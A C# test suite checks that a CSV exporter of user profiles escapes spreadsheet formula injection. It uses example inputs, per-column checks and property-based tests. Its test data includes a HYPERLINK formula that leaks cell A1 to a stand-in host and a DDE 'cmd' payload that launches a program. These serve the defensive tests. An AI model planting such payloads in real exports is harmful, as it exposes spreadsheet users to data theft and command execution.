using System.Globalization;
using CsCheck;
using CsvExport;
using CsvHelper;

namespace FluentProfiles.Samples.Tests;

public sealed class CsvTests
{
    private const string Formula = "=+-@\t\r\n＝＋－＠";

    [Theory]
    [InlineData("=HYPERLINK(\"http://elsewhere.example?\"&A1,\"open\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+49 30 1234")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("＝1+1")]
    public void Formula_IsEscaped(string text) => Assert.Equal("'" + text, Cells(Named(text))[1]);

    [Theory]
    [InlineData("O'Brien, \"Ada\"")]
    [InlineData("a=1")]
    [InlineData("first\nsecond")]
    [InlineData("first\r\n=1+1")]
    [InlineData("a;=1+1")]
    [InlineData("'=1+1")]
    [InlineData(" =1+1 ")]
    public void OtherText_IsReadBackAsItWas(string text) => Assert.Equal(text, Cells(Named(text))[1]);

    [Fact]
    public void EveryColumn_IsEscaped()
    {
        UserProfile profile = new()
        {
            Id = "=id",
            Name = "=name",
            EnforcementStatus = new("=status"),
            ExternalUserDetails = new() { Country = "=country" },
            Metadata = new([new("plan", "=plan")]),
        };

        string[] expected = ["'=id", "'=name", "0001-01-01T00:00:00.0000000+00:00", "'=status", "'=country", "'=plan"];
        Assert.Equal(expected, Cells(profile));
    }

    [Fact]
    public void AnyText_StaysOneHarmlessCell() =>
        Gen.Char[Formula + "'\",; a\0"]
            .Array[0, 8]
            .Select(letters => new string(letters))
            .Sample(text =>
            {
                var cell = Cells(Named(text))[1];
                return cell == (text is [var first, ..] && Formula.Contains(first) ? "'" + text : text);
            });

    private static UserProfile Named(string name) => new() { Id = "uprof_1", Name = name };

    private static string[] Cells(UserProfile profile)
    {
        using CsvReader reader = new(new StringReader(Csv.Header + Csv.Rows([profile])), CultureInfo.InvariantCulture);
        Assert.True(reader.Read() && reader.ReadHeader() && reader.Read());
        var cells = reader.Parser.Record!;
        Assert.Equal(6, cells.Length);
        Assert.False(reader.Read());
        return cells;
    }
}
